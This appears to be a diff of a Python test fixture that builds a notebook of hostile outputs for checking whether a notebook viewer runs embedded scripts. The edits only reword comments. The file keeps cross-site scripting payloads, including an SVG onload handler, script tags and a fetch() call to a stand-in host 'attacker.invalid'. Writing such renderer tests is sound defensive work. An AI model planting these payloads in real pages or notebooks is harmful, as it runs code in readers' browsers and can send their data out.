@@ -1,4 +1,4 @@
-"""A graded notebook that tries in every way to run something in the browser of its reader."""
+"""A graded notebook that tries every known way to run scripts in its reader's browser."""
 
 import json
 from collections.abc import Iterator
@@ -7,10 +7,10 @@ from typing import Any
 from nbformat import NotebookNode
 from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell
 
-#: The address to which scripts that run report. It doesn't exist.
+#: The address that a script reports to if it runs. The address doesn't exist.
 ATTACKER = "http://attacker.invalid"
 
-#: The script of each attack; `%s` is its name. It contains no space, so it needs no quotes in HTML.
+#: The script of each attack; `%s` is the attack's name. Without spaces, a script needs no quotes in HTML.
 SCRIPT = f"document.title='RUN-%s';(window.ran=window.ran||[]).push('%s');fetch('{ATTACKER}/%s')"
 
 _PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
@@ -22,7 +22,7 @@ def script(name: str) -> str:
 
 
 def in_html(name: str) -> str:
-    """Return HTML that runs a script in every way that HTML offers, and requests remote files."""
+    """Return HTML that tries every way to run a script, and requests remote files."""
     run = script(name).replace('"', "&quot;")
     return "\n".join(
         [
@@ -47,7 +47,7 @@ def in_html(name: str) -> str:
 
 
 def hostile_outputs() -> Iterator[NotebookNode]:
-    """Return an output for each type that a page may show."""
+    """Yield a hostile output of each type that a page may show."""
     run = script("svg")
     svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><script>{run}</script></svg>'
     yield _shown({"text/html": in_html("html")})
